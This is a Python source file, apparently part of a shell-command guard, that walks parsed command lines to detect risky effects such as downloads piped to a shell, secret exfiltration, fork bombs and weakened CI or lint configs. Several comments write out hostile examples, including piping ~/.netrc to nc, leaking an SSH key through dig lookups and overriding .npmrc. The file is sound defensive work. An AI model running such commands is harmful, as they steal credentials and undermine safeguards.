"""Walk a parsed command line in order, the way the shell would run it: expand braces, track `cd`, variables, arrays,
positional parameters, IFS, symlinks made and files written, recurse into `$(...)`, `sh -c`, `eval`, aliases, traps,
here-documents fed to shells and wrapper commands, and turn every simple command (however deeply nested) into
`Facts` for the rules. What runs code is runs.py's business."""

from __future__ import annotations

import contextlib
import re

from dun.guard import ciconfig, edits, linestate, localfx, longtail, marks, posture, programs, secrets, testdb
from dun.guard.braces import brace_expand
from dun.guard.effects import DOWNLOADERS, Effect, Facts, file_effects, find_parts, program_name
from dun.guard.expand import Ctx, Env, Val, expand
from dun.guard.lexer import LIT, ShellError, Word
from dun.guard.names import MAX_CALLS, Names
from dun.guard.options import sliced
from dun.guard.paths import classify
from dun.guard.prodtarget import carried, judge_prod
from dun.guard.redirs import Redirections
from dun.guard.runs import Stream, run_code, runner_files
from dun.guard.shell import Group, Pipeline, Simple
from dun.guard.shell import parse as parse_shell
from dun.guard.shellstate import ASSIGN, ShellState
from dun.guard.sqlclients import queries
from dun.guard.subcommands import command_opts
from dun.guard.unwrap import unwrap

MAX_DEPTH = 12
MAX_UNROLLED = 64  # loop bodies analysed once per value while nested loops multiply to at most this
MAX_COMMANDS = 5000  # simple commands analysed per decision (loops are unrolled, substitutions re-analysed)


class Walker(Redirections, ShellState, Names):
    def __init__(self, env: Env) -> None:
        self.env = env
        self.facts: list[Facts] = []
        self.budget = MAX_COMMANDS
        self.unrolled = 1
        self.last_out = Stream()
        Names.__init__(self)
        self.marks = marks.Seen()  # variables and files holding PIDs found by name, or secrets
        self.in_secret: str | None = None
        self.in_pids = False
        self.group_secret: str | None = None
        self.raw: list[str] = []  # the words of the simple command being analysed, as written
        self.traps: list[tuple[str, Ctx]] = []
        self.made: set[str] = set()  # resources made earlier in this command line (posture_own.py)
        Redirections.__init__(self)

    def run(self, src: str, ctx: Ctx) -> set[str]:
        """Analyse the command string; return the programs it runs. Raises ShellError when it cannot be read."""
        if ctx.depth > MAX_DEPTH:
            raise ShellError("commands nested too deeply")
        outer, self.traps = self.traps, []
        seen = self.pipelines(parse_shell(src), ctx, None)
        traps, self.traps = self.traps, outer
        for body, at in traps:  # `trap 'rm -rf "$W"' EXIT; W=$(mktemp -d)`: W is known when the trap runs
            seen |= self.run(body, at.child())
        if marks.detached_loop(src):
            self.facts.append(Facts(unit=" ".join(src.split())[:200], signals={"detached-loop"}))
        return seen

    def output_of(self, body: str, ctx: Ctx) -> Stream:
        """What the command line `body` prints, as far as it is known (it is analysed too)."""
        pipelines = parse_shell(body)
        self.last_out = Stream()
        self.pipelines(pipelines, ctx.child(), None)
        return self.last_out if len(pipelines) == 1 else Stream()

    def pipelines(self, pipelines: list[Pipeline], ctx: Ctx, stdin: Stream | None) -> set[str]:
        seen: set[str] = set()
        for pipeline in pipelines:
            seen |= self.pipeline(pipeline, ctx, stdin)
        return seen

    def pipeline(self, pipeline: Pipeline, ctx: Ctx, stdin: Stream | None) -> set[str]:
        seen: set[str] = set()
        units: list[str] = []
        fed_from_network: list[Facts] = []
        stream = stdin
        for stage in pipeline.stages:
            progs: set[str] = set()
            if isinstance(stage, Group):
                out, unit = self.group(stage, ctx, stream, progs), "( ... )"
            else:
                out, unit, facts = self.simple(stage, ctx, stream, progs)
                if facts is not None and facts.exec_download and stream is not None and stream.dl:
                    fed_from_network.append(facts)
            out.dl = out.dl or bool(progs & DOWNLOADERS) or bool(stream and stream.dl)
            units.append(unit)
            seen |= progs
            stream = out
        for facts in fed_from_network:  # the pipeline is the unit for curl ... | sh
            facts.unit = " | ".join(units)
        if stream is not None and stream.secret:
            self.group_secret = stream.secret  # what a group prints: (env; cat ~/.netrc) | nc host 1
        self.last_out = stream if stream is not None else Stream()
        return seen

    def word(self, word: Word, ctx: Ctx, seen: set[str]) -> Val:
        val = expand(word, ctx, self.env)
        for body in val.subs:
            progs = self.run(body, ctx.child())
            seen |= progs
            val.dl = val.dl or bool(progs & DOWNLOADERS)
        return val

    def words(self, words: list[Word], ctx: Ctx, seen: set[str]) -> list[Val]:
        return [self.word(expanded, ctx, seen) for w in words for expanded in brace_expand(w)]

    def group(self, group: Group, ctx: Ctx, stdin: Stream | None, seen: set[str]) -> Stream:
        vals = self.words(group.words, ctx, seen)
        inner = ctx.child(deeper=False) if group.subshell or group.function else ctx
        if group.function:  # its parameters are the call's: the call is analysed with them, here they are unknown
            inner.lenient = True
        effects, herein, in_dl, redirs, _ = self.redirects(group.redirects, ctx, seen)
        feed = Stream(herein, None, in_dl) if herein is not None or in_dl else stdin
        values: list[str | None] = [None]
        if any(marks.finds_pids(body) for v in vals for body in v.subs) or (feed is not None and feed.pids):
            self.marks.pid_vars.update(group.loop_vars + linestate.read_vars(group.body))
        if group.loop_vars and any(secrets.text_secret(body, ctx, self.env) for v in vals for body in v.subs):
            self.marks.secret_vars.update(group.loop_vars)  # for l in $(xxd -p ~/.ssh/id_rsa); do dig $l.x; done
        if group.loop_vars and vals and self.unrolled * len(vals) <= MAX_UNROLLED and all(v.known for v in vals):
            values = [v.text for v in vals]  # for x in a b c: analyse the body once per value
        self.unrolled *= len(values)
        outer, self.group_secret = self.group_secret, None
        for value in values:
            for name in group.loop_vars:
                inner.vars[name] = value
            seen |= self.pipelines(group.body, inner, feed)
        self.unrolled //= len(values)
        secret, self.group_secret = self.group_secret, outer or self.group_secret
        if group.function:
            self.functions[group.function] = group.body
        if group.function and linestate.self_calls(group.body, group.function) >= 2:
            self.facts.append(Facts(unit=f"{group.function}() {{ ... }}", signals={"fork-bomb"}))
        if effects:
            self.facts.append(Facts(unit=f"( ... ) {redirs}", effects=effects))
            for e in effects:
                ctx.written[e.path] = None
        return Stream(secret=secret)

    def simple(self, cmd: Simple, ctx: Ctx, stdin: Stream | None, seen: set[str]) -> tuple[Stream, str,
                                                                                             Facts | None]:
        self.budget -= 1
        if self.budget < 0:
            raise ShellError("command too complex to analyse")
        n = 0
        while n < len(cmd.words) and _assignment(cmd.words[n]):
            n += 1
        vals = [self.word(w, ctx, seen) for w in cmd.words[:n]] + self.words(cmd.words[n:], ctx, seen)
        effects, herein, in_dl, redirs, stdout = self.redirects(cmd.redirects, ctx, seen)
        raw = [w.raw for w in cmd.words[n:]]
        in_secret, in_pids, self.raw, to_shell = self.in_secret, self.in_pids, raw, self.to_shell
        for word, val in zip(cmd.words[:n], vals[:n], strict=True):  # GIT_PAGER='...' git -p log
            m = _assignment(word)
            if m is not None and m.group(1) in programs.COMMAND_VARS and n < len(vals):
                self.command_var(m.group(1), sliced(val, m.end()), ctx, seen)
        if n == len(vals):
            for word, val in zip(cmd.words, vals, strict=True):
                m = _assignment(word)
                if m is not None:
                    self.assign(ctx, m.group(1), sliced(val, m.end()), word, seen)
        feed = Stream(herein, None, in_dl) if herein is not None or in_dl else stdin
        if in_secret or in_pids:
            feed = Stream(herein, None, in_dl, pids=in_pids, secret=in_secret)
        argv = [field for val in vals[n:] for field in val.words()]
        argv = programs.git_env_config(argv, [w.raw for w in cmd.words[:n]])  # GIT_CONFIG_KEY_0=... git ...
        with linestate.prefix_ifs(argv, _prefix_env(cmd.words[:n], vals[:n]), ctx):  # IFS=: read -r a b
            facts = self.command(argv, ctx, feed, seen, effects, redirs)
        if facts is not None:
            prefix = _prefix_env(cmd.words[:n], vals[:n])
            longtail.mark_env(facts, prefix)  # STAGE=production sls deploy
            facts.test_db = testdb.test_scoped(facts, {**ctx.vars, **prefix}) or testdb.local_db(
                facts, {**self.env.environ, **ctx.vars, **prefix})  # a test database, or one on this machine
            localfx.mark_env(facts, {**{k: ctx.vars.get(k) for k in ctx.vars}, **prefix})  # SKIP=mypy git commit
            posture.judge(facts, facts.words, {**self.env.environ, **ctx.vars, **prefix}, self.env.temp,
                          self.made)  # changes state elsewhere; or its target is this machine or its own
            judge_prod(facts, [*ctx.vars.items(), *prefix.items()], [w.raw for w in cmd.words[:n]], feed)
        out = linestate.stream_out(facts.program, argv[1:], feed) if facts is not None else Stream()
        if argv:  # env | nc host 1: env runs nothing, and prints the environment
            prog = facts.program if facts is not None else program_name(argv[0])
            out.pids, out.secret = marks.stream_marks(prog, argv[1:], feed, in_secret, ctx, self.env, raw)
            self.marks.remember(facts, stdout, out)
            written = [e for e in effects if e.path in stdout] + (facts.effects if prog == "tee" and facts else [])
            if (leak := marks.secret_written(out, written, redirs or prog)) is not None:
                self.facts.append(leak)
        copied = linestate.copied(facts.program, argv[1:], ctx, self.env) if facts is not None else {}
        for e in facts.effects if facts is not None else effects:
            if e.op == "write":
                ctx.written[e.path] = feed.text if facts is not None and facts.program == "tee" and feed else \
                    copied.get(e.path)
                if facts is not None and facts.program == "tee" and feed and (
                        weak := localfx.redirected(e.path, feed.text, "-a" in facts.flags, facts.unit)):
                    self.facts.append(weak)  # tee -a mypy.ini <<< 'ignore_errors = True'
        edits.remember(ctx, facts.program if facts else "", argv[1:] if facts and argv and program_name(argv[0]) ==
                       facts.program else None, [e.path for e in facts.effects if e.op == "write"] + stdout if facts
                       else stdout)  # sed -i 's|"test": ...|' package.json && npm test: what the edit can insert
        for path in stdout:
            ctx.written[path] = out.text
            text = "" if facts is None or facts.program in (":", "true") else out.text  # `: > ci.yml` empties it
            if why := ciconfig.rewritten(path, text, path in self.appended):  # printf ... > .github/workflows/x.yml
                self.facts.append(Facts(unit=f"{redirs}", signals={"ci-weaken"}, notes={"ci-weaken": f"why: {why}"}))
            if (weak := localfx.redirected(path, text, path in self.appended, redirs)) is not None:
                self.facts.append(weak)  # printf 'fail_under = 0' >> pyproject.toml, echo 'registry=...' > .npmrc
        if to_shell or (facts is not None and facts.program == "tee" and any(linestate.shell_sink(w.raw)
                                                                           for w in cmd.words[n + 1:])):
            self.into_shell(out.text if not to_shell or facts is None or facts.program != "tee" else
                            (feed.text if feed else None), ctx, facts.unit if facts else redirs)
        for text in linestate.hook_texts([e.path for e in (facts.effects if facts else effects)] + stdout, ctx):
            with contextlib.suppress(ShellError):
                self.run(text, ctx.child())  # .husky/pre-push written: what git will run, judged now
        self.facts += linestate.planted([e.path for e in (facts.effects if facts else effects)] + stdout, ctx)
        return out, facts.unit if facts is not None else redirs, facts

    def command(self, argv: list[Val], ctx: Ctx, feed: Stream | None, seen: set[str], effects: list[Effect],
                redirs: str) -> Facts | None:
        if argv and (real := self.program(argv[0], ctx)) != program_name(argv[0]):
            argv = [Val(real), *argv[1:]]  # a program copied or linked under another name earlier in the line
        if (listed := linestate.xargs_input(argv, ctx, self.output_of)) is not None:  # xargs -a <(printf ...)
            feed = Stream(listed)
        if (forward := longtail.forwarded(argv)) is not None:  # ssh -R: ssh itself leaves no facts
            self.facts.append(forward)
        if (run := posture.fleet(argv)) is not None:  # ansible -i prod -m service ...: taken apart below
            self.facts.append(run)
        u = unwrap(argv, feed.paths if feed else None, feed.text if feed else None)
        self.facts += carried(argv, feed)  # heroku run CMD -a x-prod, kubectl exec: CMD runs there
        where = ctx.child(remote=True, deeper=False) if u.remote and not ctx.remote else ctx
        for code, remote in u.nested:
            seen |= self.run(code, ctx.child(remote=remote))
        if marks.xargs_pid_file(argv, ctx, self.marks):  # xargs -a /tmp/pids kill
            feed = Stream(pids=True)
        if u.argv and self.calls < MAX_CALLS and self.expand_name(u.argv, where, feed, seen):
            if effects:
                self.facts.append(Facts(unit=redirs, effects=effects))
            return None
        unit = " ".join([*(v.text for v in u.argv), *([redirs] if redirs else [])])
        if (u.remote or any(r for _, r in u.nested)) and feed is not None and feed.secret:  # cat key | ssh h 'cat>k'
            self.facts.append(Facts(unit=" ".join(v.text for v in argv), signals={"exfiltrate"},
                                    notes={"exfiltrate": f"secret: {feed.secret}"}))
        if not u.argv:
            if effects:
                self.facts.append(Facts(unit=unit or redirs, effects=effects))
            return None
        unknown = programs.unknown_program(u.argv[0])
        prog, args = ("" if unknown else self.program(u.argv[0], where)), u.argv[1:]
        seen.add(prog)
        if prog == "git" and self.calls < MAX_CALLS and self.git_alias(u.argv, where, feed, seen, effects, redirs):
            return None
        sub, opts, values = command_opts(prog, args, self.gitconfig)
        facts = Facts(unit=unit, program=prog, sub=sub, flags=opts.flags, operands=[v.text for v in opts.operands],
                      effects=file_effects(prog, args, where, self.env) + effects, queries=queries(prog, args),
                      values=values, words=[a.text for a in args])
        named = u.argv[0].text if "/" in u.argv[0].text else prog  # ./bin/purge-cache DIR: what its name says
        facts.effects += [Effect("delete", *classify(v, where, self.env, False), True)
                          for v in longtail.destructive_targets(named, args)]
        facts.lenient = where.lenient
        marks.command_signals(facts, u.argv, feed, where, self.env, self.raw, self.marks)
        longtail.mark(facts, args)
        for text in localfx.mark(facts, u.argv, argv, where):  # powershell.exe -c 'Remove-Item ...': read as shell
            with contextlib.suppress(ShellError):
                self.run(text, where.child())
        self.raw = []
        if unknown:
            facts.signals.add(unknown)
            facts.effects += [Effect("use", *classify(v, where, self.env, False)) for v in args
                              if v.text and not v.text.startswith("-")]
        if programs.kill_all(prog, args):
            facts.signals.add("kill-all")
        mounts, privileged = programs.container(prog, args, where, self.env)
        facts.effects += [Effect("mount", path, place) for path, place in mounts]
        if privileged:
            facts.signals.add("privileged-container")
        self.facts.append(facts)
        run_code(self, facts, u.argv, where, feed, seen)
        ciconfig.shell_edit(facts, prog, args)  # after run_code: the files interpreter code writes are known
        localfx.shell_edit(facts, prog, args, feed.text if feed else None)  # gates and sources in config files
        if (tail := longtail.wrapped_command(prog, args)) is not None and self.calls < MAX_CALLS:
            self.command(tail, where, feed, seen, [], "")  # a wrapper the guard does not know: what it runs
        runner_files(self, facts, u.runners, where, seen)
        if prog == "find":
            for sub_argv in find_parts(args)[1]:
                self.command(sub_argv, where, None, seen, [], "")
        if prog in DOWNLOADERS:
            where.downloads.update(e.path for e in facts.effects if e.op == "write")
        if not where.remote:
            self.builtin(prog, args, ctx, seen, feed.text if feed is not None else None)
            self.define(prog, args, ctx)
        if prog == "git" and sub in ("config", "remote"):
            self.git_set(values)
        return facts


def _prefix_env(words: list[Word], vals: list[Val]) -> dict[str, str | None]:
    """The variables assigned for one command (RAILS_ENV=test rails db:reset)."""
    return {m.group(1): sliced(v, m.end()).text if v.known else None for w, v in zip(words, vals, strict=True)
            if (m := _assignment(w)) is not None}


def _assignment(word: Word) -> re.Match[str] | None:
    first = word.parts[0] if word.parts else None
    return ASSIGN.match(first.text) if first is not None and first.kind == LIT else None
